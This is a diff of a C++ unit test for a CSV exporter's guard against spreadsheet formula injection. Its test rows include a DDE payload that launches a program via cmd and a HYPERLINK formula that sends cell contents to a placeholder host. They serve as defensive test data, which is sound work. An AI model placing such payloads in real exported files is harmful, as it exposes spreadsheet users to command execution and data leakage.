@@ -32,48 +32,27 @@ INSTANTIATE_TEST_SUITE_P(Lines, CsvFieldsTest,
         CsvCase { "kana", { "調査柱No", "要注意" }, QStringLiteral("調査柱No,要注意\r\n").toUtf8() }),
     caseName<CsvCase>);
 
-struct CellCase {
-    std::string name;
-    QString text; // typed, or from another program
-    QString cell; // as written
-};
-
-class SpreadsheetCellTest : public testing::TestWithParam<CellCase> { };
-
 // A spreadsheet shows a formula's text instead of working it out, and the program reads back what was given.
-TEST_P(SpreadsheetCellTest, GuardsFormulasAndReadsBackExactly)
+TEST(CsvFields, GuardsFormulasAndReadsBackExactly)
 {
-    const CellCase& c = GetParam();
-    EXPECT_EQ(spreadsheetSafe(c.text), c.cell);
-    EXPECT_EQ(fromSpreadsheetSafe(c.cell), c.text);
-    EXPECT_EQ(csvFields(QString::fromUtf8(csvLine({ c.cell }).chopped(2))), QStringList { c.cell });
+    const QString rows[][2] = { { "=HYPERLINK(\"http://x/\"&A1,\"見る\")", "'=HYPERLINK(\"http://x/\"&A1,\"見る\")" },
+        { "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0" }, { "@SUM(1+1)", "'@SUM(1+1)" }, { "-2+3", "'-2+3" },
+        { "\t=1", "'\t=1" }, { "\r=1", "'\r=1" }, { "-", "'-" }, { "'=1", "''=1" }, { "-5", "-5" },
+        { "+0.02", "+0.02" }, { "'-5", "'-5" }, { "'abc", "'abc" }, { "", "" } };
+    for (const auto& [text, cell] : rows) {
+        EXPECT_EQ(spreadsheetSafe(text), cell);
+        EXPECT_EQ(fromSpreadsheetSafe(cell), text);
+    }
 }
-
-INSTANTIATE_TEST_SUITE_P(Cells, SpreadsheetCellTest,
-    testing::Values(
-        CellCase { "hyperlink", "=HYPERLINK(\"http://x/\"&A1,\"見る\")", "'=HYPERLINK(\"http://x/\"&A1,\"見る\")" },
-        CellCase { "dde", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0" }, CellCase { "at", "@SUM(1+1)", "'@SUM(1+1)" },
-        CellCase { "minus_sum", "-2+3", "'-2+3" }, CellCase { "tab", "\t=1", "'\t=1" },
-        CellCase { "cr", "\r=1", "'\r=1" }, CellCase { "lone_minus", "-", "'-" },
-        CellCase { "quote_before_formula", "'=1", "''=1" }, CellCase { "negative_number", "-5", "-5" },
-        CellCase { "signed_width", "+0.02", "+0.02" }, CellCase { "width", "0.25", "0.25" },
-        CellCase { "quote_before_number", "'-5", "'-5" }, CellCase { "quoted_text", "'abc", "'abc" },
-        CellCase { "empty", "", "" }),
-    caseName<CellCase>);
 
 // Lines end at LF, CR LF or a CR alone; a CR in quotes is the field's, unless the quote is never closed.
 TEST(CsvFields, SplitsLinesAtEveryLineEndOutsideQuotes)
 {
-    const struct {
-        const char* name;
-        QByteArray content;
-        QList<QByteArray> lines;
-    } rows[] = { { "cr_only", "a\rb\r", { "a", "b", "" } }, { "crlf_and_lf", "a\r\nb\nc", { "a", "b", "c" } },
-        { "cr_in_quotes", "\"x\ry\",z\rw", { "\"x\ry\",z", "w" } },
-        { "stray_quote", "a\rb\"c\rd\r", { "a", "b\"c", "d", "" } },
-        { "lf_ends_quotes", "\"a\nb\"\rc", { "\"a", "b\"", "c" } } };
-    for (const auto& row : rows)
-        EXPECT_EQ(csvByteLines(row.content), row.lines) << row.name;
+    const std::pair<QByteArray, QList<QByteArray>> rows[] = { { "a\rb\r", { "a", "b", "" } },
+        { "a\r\nb\nc", { "a", "b", "c" } }, { "\"x\ry\",z\rw", { "\"x\ry\",z", "w" } },
+        { "a\rb\"c\rd\r", { "a", "b\"c", "d", "" } }, { "\"a\nb\"\rc", { "\"a", "b\"", "c" } } };
+    for (const auto& [content, lines] : rows)
+        EXPECT_EQ(csvByteLines(content), lines) << content.toStdString();
 }
 
 // A quote inside an unquoted field starts a quoted part, as spreadsheet programs read it.
